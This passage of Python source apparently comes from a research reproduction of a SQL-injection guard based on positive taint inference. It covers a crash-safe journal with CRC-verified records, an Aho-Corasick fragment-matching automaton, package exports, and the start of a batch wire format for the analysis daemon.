REC_SNAPSHOT = 5  # embedded pack_store_snapshot frame (checkpoints)
REC_TENANT_OVERLAY = 6  # tenant-id -> overlay fragment list
REC_SEAL = 7  # checkpoint seal: record count precedes it

_KNOWN_KINDS = frozenset(
    {
        REC_FRAG_ADD,
        REC_FRAG_REMOVE,
        REC_FRAG_RELOAD,
        REC_AUDIT,
        REC_SNAPSHOT,
        REC_TENANT_OVERLAY,
        REC_SEAL,
    }
)


class JournalCorrupt(Exception):
    """Durable state failed verification; the owner must refuse to serve.

    Raised for mid-stream CRC mismatches, impossible lengths, bad magic,
    undecodable payloads and unsealed checkpoints.  Never raised for a
    torn tail -- that is the expected crash shape and truncates instead.
    The guard's posture on this error is strictly fail-closed: better no
    gateway than one vetting queries against a silently wrong vocabulary.
    """

    def __init__(self, reason: str, *, path: str | None = None) -> None:
        super().__init__(f"{path}: {reason}" if path else reason)
        self.reason = reason
        self.path = path


class FsyncPolicy(enum.Enum):
    """When appended records are forced to stable storage.

    ``ALWAYS``: fsync after every append -- strongest durability, one
    disk flush per mutation.  ``BATCH`` (default): group commit -- fsync
    once per ``batch_size`` appends and on every explicit
    :meth:`JournalWriter.commit`; a crash can lose at most the last
    un-committed group, never tear what was committed.  ``NEVER``: leave
    flushing to the OS (benches, tests, throwaway state).
    """

    ALWAYS = "always"
    BATCH = "batch"
    NEVER = "never"

    @classmethod
    def from_name(cls, name: str) -> "FsyncPolicy":
        try:
            return cls(name.lower())
        except ValueError:
            raise ValueError(
                f"unknown fsync policy {name!r} (want always/batch/never)"
            ) from None


# ----------------------------------------------------------------------
# Payload codecs
# ----------------------------------------------------------------------


def _encode_str_list(kind: int, fragments: Sequence[str]) -> bytes:
    encoded = [f.encode("utf-8", "surrogatepass") for f in fragments]
    parts = [bytes([kind]), _U32.pack(len(encoded))]
    for raw in encoded:
        parts.append(_U32.pack(len(raw)))
        parts.append(raw)
    payload = b"".join(parts)
    if len(payload) > MAX_RECORD:
        raise JournalCorrupt(
            f"record of {len(payload)} bytes exceeds MAX_RECORD={MAX_RECORD}"
        )
    return payload


def _decode_text(raw: bytes, what: str) -> str:
    try:
        return raw.decode("utf-8", "surrogatepass")
    except UnicodeDecodeError as exc:
        raise JournalCorrupt(f"undecodable {what}: {exc}") from exc


def _decode_str_list(payload: bytes, offset: int, what: str) -> list[str]:
    n = len(payload)
    if offset + _U32.size > n:
        raise JournalCorrupt(f"truncated {what} count")
    (count,) = _U32.unpack_from(payload, offset)
    offset += _U32.size
    # Each entry costs at least its length prefix; a count the remaining
    # bytes cannot hold is corrupt, refused before any allocation.
    if count * _U32.size > n - offset:
        raise JournalCorrupt(f"{what} count out of range: {count}")
    out: list[str] = []
    for _ in range(count):
        if offset + _U32.size > n:
            raise JournalCorrupt(f"truncated {what} length prefix")
        (blen,) = _U32.unpack_from(payload, offset)
        offset += _U32.size
        if offset + blen > n:
            raise JournalCorrupt(f"truncated {what} payload")
        out.append(_decode_text(payload[offset : offset + blen], what))
        offset += blen
    if offset != n:
        raise JournalCorrupt(f"{n - offset} trailing bytes after {what} record")
    return out


def encode_frag_add(fragments: Sequence[str]) -> bytes:
    """One inserted fragment batch (the actually-new fragments only)."""
    return _encode_str_list(REC_FRAG_ADD, fragments)


def encode_frag_remove(fragment: str) -> bytes:
    raw = fragment.encode("utf-8", "surrogatepass")
    payload = bytes([REC_FRAG_REMOVE]) + _U32.pack(len(raw)) + raw
    if len(payload) > MAX_RECORD:
        raise JournalCorrupt(f"record of {len(payload)} bytes exceeds MAX_RECORD")
    return payload


def encode_frag_reload(fragments: Sequence[str]) -> bytes:
    """Full vocabulary replacement (deduplicated, in kept order)."""
    return _encode_str_list(REC_FRAG_RELOAD, fragments)


def encode_audit(record: dict) -> bytes:
    """One attack-audit event as canonical UTF-8 JSON."""
    raw = json.dumps(record, sort_keys=True, separators=(",", ":")).encode(
        "utf-8", "surrogatepass"
    )
    payload = bytes([REC_AUDIT]) + _U32.pack(len(raw)) + raw
    if len(payload) > MAX_RECORD:
        raise JournalCorrupt(f"audit record of {len(payload)} bytes exceeds MAX_RECORD")
    return payload


def encode_snapshot(frame: bytes) -> bytes:
    """Embed one ``pack_store_snapshot`` frame (checkpoint files)."""
    payload = bytes([REC_SNAPSHOT]) + _U32.pack(len(frame)) + bytes(frame)
    if len(payload) > MAX_RECORD:
        raise JournalCorrupt(f"snapshot record of {len(payload)} bytes exceeds MAX_RECORD")
    return payload


def encode_tenant_overlay(tenant_id: str, fragments: Sequence[str]) -> bytes:
    """One tenant's full overlay vocabulary (control-plane replication)."""
    tid = tenant_id.encode("utf-8", "surrogatepass")
    if len(tid) > 0xFFFF:
        raise JournalCorrupt(f"tenant id of {len(tid)} bytes exceeds u16")
    body = _encode_str_list(REC_TENANT_OVERLAY, fragments)
    payload = body[:1] + struct.pack("<H", len(tid)) + tid + body[1:]
    if len(payload) > MAX_RECORD:
        raise JournalCorrupt(f"overlay record of {len(payload)} bytes exceeds MAX_RECORD")
    return payload


def encode_seal(record_count: int, journal_seq: int) -> bytes:
    """Checkpoint seal: record count preceding it + the highest journal
    sequence number this checkpoint compacted (replay skips <= it)."""
    return bytes([REC_SEAL]) + _U64.pack(record_count) + _U64.pack(journal_seq)


def decode_record(payload: bytes) -> tuple[int, object]:
    """Decode one CRC-verified payload into ``(kind, body)`` (fail-closed).

    Bodies by kind: fragment lists for ADD/RELOAD, a string for REMOVE, a
    dict for AUDIT, raw frame bytes for SNAPSHOT, ``(tenant_id,
    fragments)`` for TENANT_OVERLAY, a record count for SEAL.
    """
    if not payload:
        raise JournalCorrupt("empty record payload")
    kind = payload[0]
    if kind not in _KNOWN_KINDS:
        raise JournalCorrupt(f"unknown record kind: {kind}")
    if kind in (REC_FRAG_ADD, REC_FRAG_RELOAD):
        return kind, _decode_str_list(payload, 1, "fragment")
    if kind == REC_FRAG_REMOVE:
        if len(payload) < 1 + _U32.size:
            raise JournalCorrupt("truncated remove record")
        (blen,) = _U32.unpack_from(payload, 1)
        if 1 + _U32.size + blen != len(payload):
            raise JournalCorrupt("remove record length mismatch")
        return kind, _decode_text(payload[1 + _U32.size :], "fragment")
    if kind == REC_AUDIT:
        if len(payload) < 1 + _U32.size:
            raise JournalCorrupt("truncated audit record")
        (blen,) = _U32.unpack_from(payload, 1)
        if 1 + _U32.size + blen != len(payload):
            raise JournalCorrupt("audit record length mismatch")
        text = _decode_text(payload[1 + _U32.size :], "audit event")
        try:
            document = json.loads(text)
        except ValueError as exc:
            raise JournalCorrupt(f"malformed audit JSON: {exc}") from exc
        if not isinstance(document, dict):
            raise JournalCorrupt(f"audit event is not an object: {type(document).__name__}")
        return kind, document
    if kind == REC_SNAPSHOT:
        if len(payload) < 1 + _U32.size:
            raise JournalCorrupt("truncated snapshot record")
        (blen,) = _U32.unpack_from(payload, 1)
        if 1 + _U32.size + blen != len(payload):
            raise JournalCorrupt("snapshot record length mismatch")
        return kind, payload[1 + _U32.size :]
    if kind == REC_TENANT_OVERLAY:
        if len(payload) < 3:
            raise JournalCorrupt("truncated overlay tenant id length")
        (tlen,) = struct.unpack_from("<H", payload, 1)
        if len(payload) < 3 + tlen:
            raise JournalCorrupt("truncated overlay tenant id")
        tenant_id = _decode_text(payload[3 : 3 + tlen], "tenant id")
        fragments = _decode_str_list(
            payload[:1] + payload[3 + tlen :], 1, "overlay fragment"
        )
        return kind, (tenant_id, fragments)
    # REC_SEAL
    if len(payload) != 1 + 2 * _U64.size:
        raise JournalCorrupt(f"seal record of {len(payload)} bytes is malformed")
    (count,) = _U64.unpack_from(payload, 1)
    (journal_seq,) = _U64.unpack_from(payload, 1 + _U64.size)
    return kind, (count, journal_seq)


# ----------------------------------------------------------------------
# Record framing
# ----------------------------------------------------------------------


def frame_record(payload: bytes, seq: int) -> bytes:
    """``payload`` -> one on-disk record (length + CRC32 + seq + bytes)."""
    if not payload:
        raise JournalCorrupt("refusing to frame an empty payload")
    if len(payload) > MAX_RECORD:
        raise JournalCorrupt(f"record of {len(payload)} bytes exceeds MAX_RECORD")
    seq_bytes = _SEQ.pack(seq)
    crc = zlib.crc32(payload, zlib.crc32(seq_bytes))
    return _REC_HEADER.pack(len(payload), crc) + seq_bytes + payload


@dataclass
class JournalScan:
    """Result of one verified journal read.

    ``valid_bytes`` is the byte offset of the durable prefix --
    :func:`repro.persist.state.recover` truncates the file here when
    ``torn_tail`` is set, making replay idempotent across repeated
    crashes during recovery itself.  ``records`` holds ``(seq, payload)``
    pairs in file order; sequences are verified strictly increasing.
    """

    records: list[tuple[int, bytes]] = field(default_factory=list)
    valid_bytes: int = 0
    torn_tail: bool = False
    #: Bytes discarded with the torn tail (observability only).
    torn_bytes: int = 0


def scan_buffer(buf: bytes, *, path: str | None = None) -> JournalScan:
    """Classify a journal image into durable prefix / torn tail / corrupt."""
    n = len(buf)
    if n == 0:
        return JournalScan(valid_bytes=0)
    if n < len(FILE_MAGIC):
        # Crash during file creation: nothing was ever durable.
        if FILE_MAGIC.startswith(buf):
            return JournalScan(valid_bytes=0, torn_tail=True, torn_bytes=n)
        raise JournalCorrupt(f"bad journal magic: {buf!r}", path=path)
    if buf[: len(FILE_MAGIC)] != FILE_MAGIC:
        raise JournalCorrupt(
            f"bad journal magic: {buf[: len(FILE_MAGIC)]!r}", path=path
        )
    scan = JournalScan(valid_bytes=len(FILE_MAGIC))
    offset = len(FILE_MAGIC)
    previous_seq = -1
    while offset < n:
        remaining = n - offset
        if remaining < _REC_HEADER.size + _SEQ.size:
            scan.torn_tail = True
            scan.torn_bytes = remaining
            return scan
        length, crc = _REC_HEADER.unpack_from(buf, offset)
        if length == 0 or length > MAX_RECORD:
            # Appends are single writes: a partial write tears, it never
            # rewrites the length field.  An impossible length is damage.
            raise JournalCorrupt(
                f"record at byte {offset} declares impossible length {length}",
                path=path,
            )
        if remaining - _REC_HEADER.size - _SEQ.size < length:
            scan.torn_tail = True
            scan.torn_bytes = remaining
            return scan
        body_start = offset + _REC_HEADER.size
        (seq,) = _SEQ.unpack_from(buf, body_start)
        payload = buf[body_start + _SEQ.size : body_start + _SEQ.size + length]
        if zlib.crc32(payload, zlib.crc32(buf[body_start : body_start + _SEQ.size])) != crc:
            raise JournalCorrupt(
                f"CRC mismatch in record at byte {offset}", path=path
            )
        if seq <= previous_seq:
            raise JournalCorrupt(
                f"sequence regression at byte {offset}: {seq} after {previous_seq}",
                path=path,
            )
        previous_seq = seq
        scan.records.append((seq, payload))
        offset = body_start + _SEQ.size + length
        scan.valid_bytes = offset
    return scan


def scan_journal(path: str) -> JournalScan:
    """Read and verify one journal file (missing file = empty journal)."""
    try:
        with open(path, "rb") as handle:
            buf = handle.read()
    except FileNotFoundError:
        return JournalScan(valid_bytes=0)
    return scan_buffer(buf, path=path)


# ----------------------------------------------------------------------
# Writer
# ----------------------------------------------------------------------


class JournalWriter:
    """Append-only journal handle with group-commit fsync.

    ``opener`` is the crash-injection hook: it replaces ``open(path,
    "ab")`` with a fault-wrapped file object
    (:class:`~repro.testbed.crashfaults.FaultFile`) so the harness can
    tear appends at exact byte offsets.  The object must support
    ``write``/``flush``/``fileno``/``close``/``tell``.

    Thread safety: callers serialise appends themselves -- the store's
    mutation lock already does for fragment ops, and the audit sink
    appends under the ring log's lock.
    """

    def __init__(
        self,
        path: str,
        *,
        fsync: FsyncPolicy = FsyncPolicy.BATCH,
        batch_size: int = 64,
        start_seq: int = 1,
        opener: Callable[[str], object] | None = None,
    ) -> None:
        if batch_size < 1:
            raise ValueError("batch_size must be >= 1")
        if start_seq < 1:
            raise ValueError("start_seq must be >= 1")
        self.path = path
        self.fsync_policy = fsync
        self.batch_size = batch_size
        self.next_seq = start_seq
        self._file = opener(path) if opener is not None else open(path, "ab")
        self._pending = 0
        # Observability (surfaced via resilience_report()["durability"]).
        self.appends = 0
        self.fsyncs = 0
        self.bytes_written = 0
        if self._file.tell() == 0:
            self._file.write(FILE_MAGIC)
            self.bytes_written += len(FILE_MAGIC)
            self._sync(force=self.fsync_policy is not FsyncPolicy.NEVER)

    def _sync(self, *, force: bool) -> None:
        self._file.flush()
        if force:
            os.fsync(self._file.fileno())
            self.fsyncs += 1
            self._pending = 0

    @property
    def last_seq(self) -> int:
        """Sequence of the last appended record (``start_seq - 1`` if none)."""
        return self.next_seq - 1

    def append(self, payload: bytes) -> None:
        """Frame + write one record; fsync per policy (group commit)."""
        record = frame_record(payload, self.next_seq)
        self._file.write(record)
        self.next_seq += 1
        self.appends += 1
        self.bytes_written += len(record)
        self._pending += 1
        if self.fsync_policy is FsyncPolicy.ALWAYS:
            self._sync(force=True)
        elif (
            self.fsync_policy is FsyncPolicy.BATCH
            and self._pending >= self.batch_size
        ):
            self._sync(force=True)
        else:
            self._file.flush()

    def append_many(self, payloads: Iterable[bytes]) -> None:
        for payload in payloads:
            self.append(payload)

    def commit(self) -> None:
        """Force everything appended so far to stable storage."""
        if self.fsync_policy is FsyncPolicy.NEVER:
            self._file.flush()
            return
        self._sync(force=True)

    def truncate_to_empty(self) -> None:
        """Reset the journal to a bare magic (after a durable checkpoint)."""
        self._file.truncate(len(FILE_MAGIC))
        self._file.seek(len(FILE_MAGIC))
        self._sync(force=self.fsync_policy is not FsyncPolicy.NEVER)

    def close(self, *, flush: bool = True) -> None:
        """Close the handle; ``flush=False`` abandons un-committed appends
        (the crash-shaped shutdown used by ``stop(drain=False)``)."""
        try:
            if flush:
                self.commit()
        finally:
            try:
                self._file.close()
            except OSError:  # pragma: no cover - teardown
                pass

    def counters(self) -> dict[str, int]:
        return {
            "appends": self.appends,
            "fsyncs": self.fsyncs,
            "bytes_written": self.bytes_written,
            "pending_group": self._pending,
            "last_seq": self.last_seq,
        }
