"""One-pass PTI matching: Aho-Corasick fragment-occurrence automaton.

The scan matcher of :mod:`repro.pti.inference` answers "is this critical
token inside a fragment occurrence?" *per token*: it walks the MRU list and
the inverted-index candidates and runs a bounded ``str.find`` per fragment.
Its cost is ``O(tokens x candidates x find)`` -- and for a WordPress-scale
vocabulary the index bucket of a keyword like ``SELECT`` is essentially the
whole store, so malicious queries (and any benign query outside the MRU
working set) degenerate to the full scan the paper's Figure 7 calls
"unoptimized".

This module replaces the per-token search with classic multi-pattern
matching (Aho & Corasick 1975):

1. an automaton (goto / fail / merged-output over interned fragment ids) is
   compiled once per fragment-store *epoch* over the whole vocabulary;
2. one streaming pass over the intercepted query emits **every** fragment
   occurrence as a half-open interval ``[start, end)``;
3. per-token coverage becomes an interval-stabbing lookup on the
   :class:`OccurrenceIndex` -- occurrences sorted by start, a running
   maximum of ends, one ``bisect`` per token.

Total analysis cost: ``O(|query| + occurrences + tokens x log occurrences)``
regardless of store size (after the per-epoch build).  The semantics are
exactly PTI's single-occurrence rule: a token is covered iff **one**
occurrence of **one** fragment contains it -- fragments are never combined,
matching stays case-sensitive, and :meth:`OccurrenceIndex.witness` recovers
a concrete ``(fragment, occurrence_start)`` pair, which the shape cache
needs to classify coverage as slot-independent vs literal-dependent.

Work accounting: the automaton's analogue of the scan matcher's
"containment check" counter is the number of *node transitions* performed
(goto steps plus fail-link follows, >= |query|).  The Figure 7 comparisons
counter therefore changes meaning under ``matcher="automaton"`` -- see
DESIGN.md section 9.
"""

from __future__ import annotations

from bisect import bisect_right
from typing import Iterable, Iterator

__all__ = ["CompositeAutomaton", "FragmentAutomaton", "OccurrenceIndex"]


class OccurrenceIndex:
    """Interval-stabbing structure over one query's fragment occurrences.

    Occurrences are half-open ``[start, end)`` intervals sorted by start.
    For each prefix of that order the maximum end (and the occurrence
    achieving it) is precomputed, so *"does any occurrence contain
    [token_start, token_end)?"* is one ``bisect_right`` plus one array
    lookup: among occurrences starting at or before ``token_start``, some
    occurrence reaches past ``token_end`` iff the running maximum does.

    The witness returned by :meth:`witness` is deterministic: the earliest
    occurrence (in start order) achieving the running maximum end.  It is
    always a *genuine* occurrence -- ``query[pos : pos + len(fragment)] ==
    fragment`` -- which the shape cache relies on for its per-instance
    re-proof hints.
    """

    __slots__ = (
        "starts",
        "ends",
        "fragment_ids",
        "transitions",
        "_max_ends",
        "_argmax",
        "_fragments",
    )

    def __init__(
        self,
        starts: list[int],
        ends: list[int],
        fragment_ids: list[int],
        fragments: tuple[str, ...],
        transitions: int,
    ) -> None:
        if starts:
            order = sorted(range(len(starts)), key=starts.__getitem__)
            self.starts = [starts[k] for k in order]
            self.ends = [ends[k] for k in order]
            self.fragment_ids = [fragment_ids[k] for k in order]
            max_ends: list[int] = []
            argmax: list[int] = []
            best = -1
            best_at = -1
            for i, end in enumerate(self.ends):
                if end > best:
                    best = end
                    best_at = i
                max_ends.append(best)
                argmax.append(best_at)
            self._max_ends = max_ends
            self._argmax = argmax
        else:
            self.starts = []
            self.ends = []
            self.fragment_ids = []
            self._max_ends = []
            self._argmax = []
        self._fragments = fragments
        #: Node transitions the automaton performed producing this index
        #: (the automaton-mode unit of the Fig. 7 comparisons counter).
        self.transitions = transitions

    def __len__(self) -> int:
        return len(self.starts)

    def covers(self, start: int, end: int) -> bool:
        """Whether some single occurrence contains ``[start, end)``."""
        j = bisect_right(self.starts, start) - 1
        return j >= 0 and self._max_ends[j] >= end

    def witness(self, start: int, end: int) -> tuple[str, int] | None:
        """A covering ``(fragment, occurrence_start)`` pair, or ``None``.

        Mirrors the scan matcher's
        :meth:`~repro.pti.inference.PTIAnalyzer.cover_token_witness`
        contract: the returned position is the exact start of a real
        occurrence whose interval contains ``[start, end)``.
        """
        j = bisect_right(self.starts, start) - 1
        if j < 0 or self._max_ends[j] < end:
            return None
        k = self._argmax[j]
        return self._fragments[self.fragment_ids[k]], self.starts[k]

    def intervals(self) -> list[tuple[int, int, str]]:
        """All occurrences as ``(start, end, fragment)`` (test/debug aid)."""
        fragments = self._fragments
        return [
            (start, end, fragments[fid])
            for start, end, fid in zip(self.starts, self.ends, self.fragment_ids)
        ]


class FragmentAutomaton:
    """Aho-Corasick automaton over a fragment vocabulary.

    Built lazily by :class:`~repro.pti.inference.PTIAnalyzer` and
    invalidated via the fragment store's
    :attr:`~repro.pti.fragments.FragmentStore.epoch`: the automaton records
    the epoch it was compiled under, and a mismatch means it describes a
    stale vocabulary and must be rebuilt (an added fragment can create
    coverage; a removed one must revoke it).

    Representation: ``goto`` is a list of per-node ``{char: next_node}``
    dicts (the trie shares fragment prefixes, so nodes <= total fragment
    characters), ``fail`` the classic BFS failure links, and ``out`` the
    per-node tuple of fragment ids terminating there -- with fail-chain
    outputs merged in at build time so the scan loop reads one tuple per
    node instead of walking suffix links.
    """

    __slots__ = ("fragments", "epoch", "node_count", "_goto", "_fail", "_out", "_lengths")

    def __init__(self, fragments: Iterable[str], epoch: int | None = None) -> None:
        # Dedupe while preserving first-seen order (the store already
        # dedupes; direct construction in tests may not) and drop empties,
        # which match everywhere and cover nothing.
        seen: set[str] = set()
        unique: list[str] = []
        for fragment in fragments:
            if fragment and fragment not in seen:
                seen.add(fragment)
                unique.append(fragment)
        self.fragments: tuple[str, ...] = tuple(unique)
        self.epoch = epoch
        self._lengths = [len(f) for f in self.fragments]
        self._build()

    @classmethod
    def from_store(cls, store) -> "FragmentAutomaton":
        """Compile over a :class:`~repro.pti.fragments.FragmentStore`.

        Uses the store's copy-on-write snapshot when available so the
        fragment tuple and the recorded epoch come from the *same* state --
        a concurrent mutation between the two reads would otherwise tag an
        old vocabulary with a new epoch (stale trust that never expires).
        """
        snapshot = getattr(store, "snapshot", None)
        if callable(snapshot):
            state = snapshot()
            return cls(state.fragments, epoch=state.epoch)
        return cls(store.iter_all(), epoch=store.epoch)

    # ------------------------------------------------------------------
    # Construction
    # ------------------------------------------------------------------

    def _build(self) -> None:
        goto: list[dict[str, int]] = [{}]
        out: list[tuple[int, ...]] = [()]
        for fid, fragment in enumerate(self.fragments):
            node = 0
            for ch in fragment:
                nxt = goto[node].get(ch)
                if nxt is None:
                    nxt = len(goto)
                    goto[node][ch] = nxt
                    goto.append({})
                    out.append(())
                node = nxt
            out[node] = out[node] + (fid,)
        fail = [0] * len(goto)
        # BFS from the root; children of the root fail to the root.
        queue: list[int] = list(goto[0].values())
        head = 0
        while head < len(queue):
            node = queue[head]
            head += 1
            for ch, child in goto[node].items():
                queue.append(child)
                state = fail[node]
                while state and ch not in goto[state]:
                    state = fail[state]
                candidate = goto[state].get(ch, 0)
                fail[child] = 0 if candidate == child else candidate
                if out[fail[child]]:
                    # Merge suffix outputs: an occurrence ending here also
                    # ends every fragment that is a suffix of this path.
                    out[child] = out[child] + out[fail[child]]
        self._goto = goto
        self._fail = fail
        self._out = out
        self.node_count = len(goto)

    # ------------------------------------------------------------------
    # Matching
    # ------------------------------------------------------------------

    def scan(self, text: str) -> tuple[list[int], list[int], list[int], int]:
        """One streaming pass; returns ``(starts, ends, fragment_ids, transitions)``.

        Emits every occurrence of every fragment (a fragment of length L
        reported at scan position i occupies ``[i + 1 - L, i + 1)``).
        ``transitions`` counts goto steps plus fail-link follows -- the
        automaton's unit of matching work.
        """
        goto = self._goto
        fail = self._fail
        out = self._out
        lengths = self._lengths
        node = 0
        transitions = 0
        starts: list[int] = []
        ends: list[int] = []
        fragment_ids: list[int] = []
        for i, ch in enumerate(text):
            transitions += 1
            nxt = goto[node].get(ch)
            while nxt is None and node:
                node = fail[node]
                transitions += 1
                nxt = goto[node].get(ch)
            node = nxt if nxt is not None else 0
            hits = out[node]
            if hits:
                end = i + 1
                for fid in hits:
                    starts.append(end - lengths[fid])
                    ends.append(end)
                    fragment_ids.append(fid)
        return starts, ends, fragment_ids, transitions

    def index(self, text: str) -> OccurrenceIndex:
        """Scan ``text`` and build its interval-stabbing index."""
        starts, ends, fragment_ids, transitions = self.scan(text)
        return OccurrenceIndex(starts, ends, fragment_ids, self.fragments, transitions)

    def occurrences(self, text: str) -> Iterator[tuple[int, int, str]]:
        """All ``(start, end, fragment)`` occurrences in ``text`` (test aid)."""
        starts, ends, fragment_ids, __ = self.scan(text)
        fragments = self.fragments
        for start, end, fid in zip(starts, ends, fragment_ids):
            yield start, end, fragments[fid]

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------

    def stats(self) -> dict[str, int]:
        """Size counters for the engine's cache introspection."""
        return {
            "fragments": len(self.fragments),
            "nodes": self.node_count,
            "epoch": self.epoch if self.epoch is not None else -1,
        }


class CompositeAutomaton:
    """Shared-base + tenant-overlay matcher (cross-tenant interning).

    A fleet of tenants running the same application shares an identical
    core vocabulary (WordPress core is byte-identical across sites); only
    the plugin delta differs per tenant.  Compiling a full
    :class:`FragmentAutomaton` per tenant would duplicate the dominant
    trie ``N`` times, so the tenancy layer compiles the base **once** and
    pairs it with each tenant's tiny overlay automaton; this class makes
    the pair quack like a single automaton over the tenant's composed
    fragment tuple (base fragments at ids ``0..B-1``, overlay fragments
    offset by ``B`` -- exactly the layout of
    :class:`repro.tenancy.TenantStore`).

    Semantics are unchanged: both parts stream the query independently
    and the union of their occurrence intervals is precisely the
    occurrence set of the full vocabulary (Aho-Corasick emits every
    occurrence of every pattern; partitioning the pattern set partitions
    the occurrences).  Transitions add up, so the Fig. 7 work counter
    honestly reports the two passes.
    """

    __slots__ = ("base", "overlay", "fragments", "epoch", "node_count")

    def __init__(
        self,
        base: FragmentAutomaton,
        overlay: FragmentAutomaton,
        fragments: tuple[str, ...],
        epoch: int | None = None,
    ) -> None:
        if tuple(base.fragments) + tuple(overlay.fragments) != tuple(fragments):
            raise ValueError(
                "composite fragment tuple must be base fragments followed by "
                "overlay fragments (id offsets depend on it)"
            )
        self.base = base
        self.overlay = overlay
        self.fragments = tuple(fragments)
        self.epoch = epoch
        self.node_count = base.node_count + overlay.node_count

    def scan(self, text: str) -> tuple[list[int], list[int], list[int], int]:
        """Two streaming passes; same contract as :meth:`FragmentAutomaton.scan`."""
        starts, ends, fragment_ids, transitions = self.base.scan(text)
        o_starts, o_ends, o_ids, o_transitions = self.overlay.scan(text)
        offset = len(self.base.fragments)
        starts.extend(o_starts)
        ends.extend(o_ends)
        fragment_ids.extend(fid + offset for fid in o_ids)
        return starts, ends, fragment_ids, transitions + o_transitions

    def index(self, text: str) -> OccurrenceIndex:
        """Scan ``text`` and build its interval-stabbing index."""
        starts, ends, fragment_ids, transitions = self.scan(text)
        return OccurrenceIndex(starts, ends, fragment_ids, self.fragments, transitions)

    def occurrences(self, text: str) -> Iterator[tuple[int, int, str]]:
        """All ``(start, end, fragment)`` occurrences in ``text`` (test aid)."""
        starts, ends, fragment_ids, __ = self.scan(text)
        fragments = self.fragments
        for start, end, fid in zip(starts, ends, fragment_ids):
            yield start, end, fragments[fid]

    def stats(self) -> dict[str, int]:
        """Size counters; ``shared_nodes`` is the interned (base) share."""
        return {
            "fragments": len(self.fragments),
            "nodes": self.node_count,
            "shared_nodes": self.base.node_count,
            "overlay_nodes": self.overlay.node_count,
            "epoch": self.epoch if self.epoch is not None else -1,
        }
