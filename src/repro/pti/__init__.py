"""Positive taint inference component (paper Sections III-B, IV-C, VI-A)."""

from .caches import CacheStats, MRUFragmentCache, QueryCache, StructureCache
from .daemon import (
    DaemonConfig,
    DaemonReply,
    PTIDaemon,
    StageTimings,
    SubprocessPTIDaemon,
)
from .fragments import FragmentStore
from .inference import PTIAnalyzer, PTIConfig

__all__ = [
    "CacheStats",
    "MRUFragmentCache",
    "QueryCache",
    "StructureCache",
    "DaemonConfig",
    "DaemonReply",
    "PTIDaemon",
    "StageTimings",
    "SubprocessPTIDaemon",
    "FragmentStore",
    "PTIAnalyzer",
    "PTIConfig",
]
