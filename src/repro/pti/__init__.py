"""Positive taint inference component (paper Sections III-B, IV-C, VI-A)."""

from .automaton import FragmentAutomaton, OccurrenceIndex
from .caches import CacheStats, MRUFragmentCache, QueryCache, StructureCache
from .daemon import (
    DaemonConfig,
    DaemonReply,
    PTIDaemon,
    StageTimings,
    SubprocessPTIDaemon,
)
from .fragments import FragmentStore
from .pool import DaemonPool, PoolWorker
from .inference import (
    AUTO_AUTOMATON_MIN_FRAGMENTS,
    PTI_MATCHER_CHOICES,
    PTIAnalyzer,
    PTIConfig,
)

__all__ = [
    "FragmentAutomaton",
    "OccurrenceIndex",
    "CacheStats",
    "MRUFragmentCache",
    "QueryCache",
    "StructureCache",
    "DaemonConfig",
    "DaemonReply",
    "PTIDaemon",
    "StageTimings",
    "SubprocessPTIDaemon",
    "FragmentStore",
    "DaemonPool",
    "PoolWorker",
    "PTIAnalyzer",
    "PTIConfig",
    "PTI_MATCHER_CHOICES",
    "AUTO_AUTOMATON_MIN_FRAGMENTS",
]
