"""Zero-copy batch wire format for the PTI daemon pipe (DESIGN.md §11).

The legacy daemon protocol pickles one query per ``Connection.send`` and
one ``(safe, from_cache, tokens, deltas)`` tuple per reply.  Pickle is
convenient but costs a full object-graph walk per query -- per-token
dataclass reduction dominated the wire time in profiles -- and forces one
IPC exchange (and one deadline clamp) per query.

This module packs a whole *batch* into one struct-packed frame each way:

``request``::

    "JZ" | version:B | kind:B=1 | count:H          (6-byte header)
    repeat count:  byte_len:I | utf-8 query bytes

``reply``::

    "JZ" | version:B | kind:B=2 | count:H          (6-byte header)
    stage deltas: 5 doubles (spawn, ipc, parse, match, cache)
    repeat count:
        flags:B    bit0 = safe, bits1-2 = from_cache code
                   (0 none / 1 "query" / 2 "structure"), bit3 = has_tokens
        if has_tokens:  n:H  then n * (type_code:B | start:I | end:I)

Key properties:

- **Pre-sized buffers.**  Frames are assembled with ``struct.pack_into``
  into one exactly-sized ``bytearray`` -- no length-prefix + payload
  concatenation, no intermediate ``bytes`` per field.  The bytearray goes
  straight to ``Connection.send_bytes`` (buffer protocol, no pickle).
- **Tokens travel as spans.**  A reply token is ``(type_code, start,
  end)``: 9 bytes instead of a pickled Token.  The receiver reslices
  ``query[start:end]`` -- sharing the query string it already holds -- and
  recomputes the semantic value.  This is *exact*, not approximate: the
  critical-token types that cross the wire (KEYWORD, IDENTIFIER, OPERATOR,
  PUNCTUATION, COMMENT) all derive ``value`` deterministically from
  ``text`` (lowercased keyword, backtick-unquoted identifier, verbatim
  otherwise).  :func:`spans_from_tokens` *verifies* that derivation per
  token at pack time and refuses (``WireFormatError``) on any token it
  could not reconstruct byte-exactly -- the daemon loop then falls back to
  a pickled reply rather than ship a lossy one.
- **Fail-closed decoding.**  Every unpack validates magic, version, kind,
  counts, bounds and exact frame length; anything off raises
  :class:`WireFormatError`, which the parent converts to
  :class:`~repro.core.resilience.CorruptReply` (a typed PTI failure --
  never a verdict).
- **Protocol coexistence.**  Packed frames start with ``b"JZ"`` while every
  pickle starts with ``b"\\x80"`` (protocol 2+ opcode), so a single child
  loop can serve both by sniffing :func:`is_frame` on the raw bytes.

Bounds: :data:`MAX_BATCH` queries per frame and :data:`MAX_FRAME` bytes
per frame.  Oversized batches are a *caller* error, rejected before any
I/O with a recorded reason, so a runaway batcher cannot wedge the pipe.
"""

from __future__ import annotations

import struct
from typing import Iterable, Sequence

from ..sqlparser.lexer import _string_value
from ..sqlparser.tokens import Token, TokenType

__all__ = [
    "MAGIC",
    "VERSION",
    "KIND_REQUEST",
    "KIND_REPLY",
    "MAX_BATCH",
    "MAX_FRAME",
    "STAGES",
    "WireFormatError",
    "is_frame",
    "pack_batch_request",
    "unpack_batch_request",
    "pack_batch_reply",
    "unpack_batch_reply",
    "spans_from_tokens",
    "tokens_from_spans",
]

MAGIC = b"JZ"
VERSION = 1
KIND_REQUEST = 1
KIND_REPLY = 2

#: Hard per-frame bounds.  A batch larger than MAX_BATCH is rejected
#: *before* any I/O; a frame larger than MAX_FRAME is rejected by both
#: packer and unpacker (a length-prefix bomb cannot allocate unbounded
#: memory in either process).
MAX_BATCH = 256
MAX_FRAME = 16 * 1024 * 1024

#: Stage order of the packed deltas block.  Mirrors
